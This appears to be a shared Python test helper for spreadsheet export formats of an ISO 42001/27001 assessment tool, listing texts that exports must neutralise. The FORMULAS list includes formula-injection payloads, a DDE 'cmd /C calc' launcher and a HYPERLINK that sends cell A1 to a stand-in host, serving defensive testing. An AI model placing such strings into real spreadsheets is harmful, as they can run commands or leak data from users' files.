"""What the tests of the formats for spreadsheets share: an assessment with every field filled in,
and texts that a spreadsheet must not run."""
import json

import harness
import record_sample

# Behind each of these a spreadsheet begins to calculate; blanks and quotes do not stop it.
STARTERS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212"
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"see\")", " =1+1", "\u00a0=1+1",
    "\"=1+1", "'=1+1", " \"' =1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\u3000\u201c=1",
)
LATER = ("a\n=1+1", "a;=1+1", "a\t=1+1", "a;\"=1+1", "a\n'=1", "a\";\"=1+1", "\n=1+1", "\t=1+1",
         "a;;=1", "a\n\n-1", "a;\n\t=1")
TEXTS = ("it's", "'quoted'", "''", "a=b", "a -b", "x@y.example", "C:\\-1", "a, b", "say \"no\"",
         "a\n\nb", "\u7530\u8fba", "_x0041_", "</t><f>1+1</f>", "&amp;",
         "]]>", "{=1}", "  two blanks  ", "#REF!", "TRUE", "0012", "1e5", "2027-03-01")


class Marks:
    """Texts that are each used once, to be looked for afterwards."""

    def __init__(self):
        self.made = []

    def __call__(self, name):
        self.made.append("mark-%d-%s" % (len(self.made), name))
        return self.made[-1]

    def find_missing(self, text):
        return [mark for mark in self.made if mark not in text]


def fill_everything(marks):
    """An assessment in which every field of the schema holds a text of its own."""
    def fill_answer(place, **more):
        answer = {name: marks(place + "-" + name)
                  for name in ("note", "owner", "justification", "implementation", "required_by",
                               "assessed_by")}
        answer.update(due="2027-03-01", assessed_at="2026-11-01T08:30:00Z", basis="evidenced",
                      status="partial", reviewed_in=marks(place + "-custom"))
        answer["evidence"] = [{"title": marks(place + "-title"), "date": "2026-10-09",
                               "reference": marks(place + "-reference"),
                               "shelf": marks(place + "-shelf")} for _ in range(2)]
        answer.update(more)
        return answer

    return harness.make_assessment(
        title=marks("title"),
        organisation={name: marks(name) for name in ("name", "sector", "size", "contact", "vat")},
        scope={name: marks(name) for name in ("isms", "aims", "difference", "site")},
        plan={"start": "2027-01-11", "capacity": 3, "audit": "2027-09-20", "room": marks("room")},
        statement_of_applicability={"version": marks("version"), "date": "2026-11-20",
                                    "approver": marks("approver"), "seal": marks("seal")},
        assessors=[marks("assessor"), marks("second")],
        need={"certified-isms": "yes", "uses-ai": "no", "asked_by": marks("need")},
        roles=["producer"], client=marks("root"),
        **record_sample.fill_records(marks),
        answers={"iso42001:A.5.2": fill_answer("control", reasons=["risk", "law"]),
                 "iso42001:5.2": fill_answer("clause"),
                 "iso27001:A.5.1": fill_answer("source"),
                 "iso42001:A.7.2": fill_answer("left-out", status="not-applicable")})


def make_note(text, **fields):
    """An assessment with the text in one answer."""
    return harness.make_answer(status="partial", basis="stated", note=text, **fields)


def name_item(item):
    """'iso42001:8.4' as reports write it."""
    return item.removeprefix("iso").replace(":", " ")


def list_open(report):
    """The open items of a report in JSON, as reports name them, in the order of the catalogue."""
    return [name_item(item) for item, entry in report["items"].items()
            if entry["state"] in ("open", "not-assessed")]


def dump(value):
    return json.dumps(value, ensure_ascii=False)
